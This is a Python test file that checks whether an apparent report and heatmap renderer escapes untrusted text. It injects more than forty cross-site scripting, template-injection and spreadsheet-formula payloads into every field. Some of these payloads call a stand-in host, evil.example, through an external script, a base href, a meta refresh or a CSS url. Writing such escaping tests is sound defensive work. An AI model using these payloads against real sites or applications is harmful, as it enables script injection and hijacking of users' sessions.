"""No text of a corpus, model or file can become markup: more than thirty payloads in every field, parsed again."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import polars as pl
import pytest

from workbench.viz.escape import attribute, escape, plain
from workbench.viz.heatmap import heatmap
from workbench.viz.report import POLICY, report

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onload=alert(1)`",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>-->alert(1)//",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<math><mtext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "x\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u2066",
    "<\u200bscript>alert(1)</script>",
    "x;background:url(//evil.example)",
    "স্ত্রী<script>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>",
    "<bdo dir=rtl>x</bdo>",
    "\x1b]0;title\x07<b>",
    "=cmd|' /C calc'!A0",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
)
PAGE = {"html", "head", "meta", "title", "style", "body", "main", "header", "nav", "a", "section", "article", "div", "details", "summary"}
PROSE = {"p", "h1", "h2", "h3", "bdi", "strong", "b", "i", "span", "pre", "code", "dl", "dt", "dd", "figure", "figcaption"}
TAGS = PAGE | PROSE | {"table", "caption", "thead", "tbody", "tr", "th", "td"} | {"svg", "g", "path", "text", "line", "rect"}
LINKS = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster", "background"}


class Audit(HTMLParser):
    """Collects what must not be there, and the text of elements with a class."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text: list[str] = []
        self.policy = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attributes:
            if name.startswith("on") or (name in LINKS and not (value or "").startswith("#")):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "style" and ("url(" in (value or "") or "expression" in (value or "")):
                self.wrong.append(f"{tag} style={value}")
            if name == "http-equiv":
                self.policy = dict(attributes).get("content") or ""

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")


def audit(html: str) -> Audit:
    found = Audit()
    found.feed(html)
    found.close()
    return found


def poisoned(frame: pl.DataFrame, payload: str, *keep: str) -> pl.DataFrame:
    return frame.with_columns(pl.lit(payload).alias(name) for name, kind in frame.schema.items() if kind == pl.String and name not in keep)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_in_any_field_of_a_report(payload: str, data: Any, words: Any, tokens: Any) -> None:
    plain_data = data(texts=(payload,))
    changes = {
        name: poisoned(getattr(plain_data, name), payload, "kind", "side", "text", "ordering")
        for name in (
            "terms",
            "least_terms",
            "examples",
            "predictions",
            "words",
            "tokens",
            "confusion",
            "quality",
            "planted",
            "bias",
            "suspects",
            "losses",
            "failures",
        )
    }
    html = report(
        data(
            texts=(payload,),
            labels=(payload,),
            title=payload,
            corpus=payload,
            model=payload,
            composite=payload,
            selection=payload,
            unit=payload,
            corpus_facts={payload: payload},
            provenance={payload: payload},
            queries=((payload, payload),),
            commands=((payload, payload),),
            notices=(payload,),
            language=payload,
            planted_command=payload,
            term_kind=payload,
            control=payload,
            gaps=None,
            parts_of_speech=None,
            faithfulness=None,
            ledger=plain_data.ledger.clear(),
            **changes,
        )
    )
    found = audit(html)
    assert not found.wrong
    assert found.policy == POLICY
    assert payload.replace("\x00", "\u2400") in "".join(found.text)


def test_no_payload_becomes_markup_in_a_chart(data: Any) -> None:
    plain_data = data()
    rows = len(PAYLOADS)
    ledger = pl.concat([plain_data.ledger.head(1)] * rows).with_columns(pl.Series("model", PAYLOADS))
    parts = pl.concat([plain_data.parts_of_speech.head(1)] * rows).with_columns(pl.Series("upos", PAYLOADS))
    faithfulness = pl.concat([plain_data.faithfulness.head(1)] * rows).with_columns(pl.Series("method", PAYLOADS))
    html = report(data(ledger=ledger, parts_of_speech=parts, faithfulness=faithfulness))
    assert html.count("<svg ") == 4
    assert not audit(html).wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_in_a_heatmap(payload: str, words: Any, tokens: Any) -> None:
    html = heatmap(words(payload), text=payload, title=payload, tokens=tokens(payload, models=(payload,)), unit=payload, language=payload)
    assert not audit(html).wrong


def test_controls_are_isolated_in_text_and_named_elsewhere() -> None:
    assert str(escape("a\u202eb")) == 'a<bdi class="control" data-name="RLO" title="U+202E RIGHT-TO-LEFT OVERRIDE">\u202e</bdi>b'
    assert str(attribute("a\u202eb\n\"'<`")) == "a⟨RLO⟩b&#10;&#34;&#39;&lt;&#96;"
    assert plain("\x1b[31mlong\u2066\nline") == "⟨U+001B⟩[31mlong⟨LRI⟩ line"
    assert str(escape("র\u200d্যাব ক\u09cd\u200cষ")) == "র\u200d্যাব ক\u09cd\u200cষ", "joiners of Bengali stay"
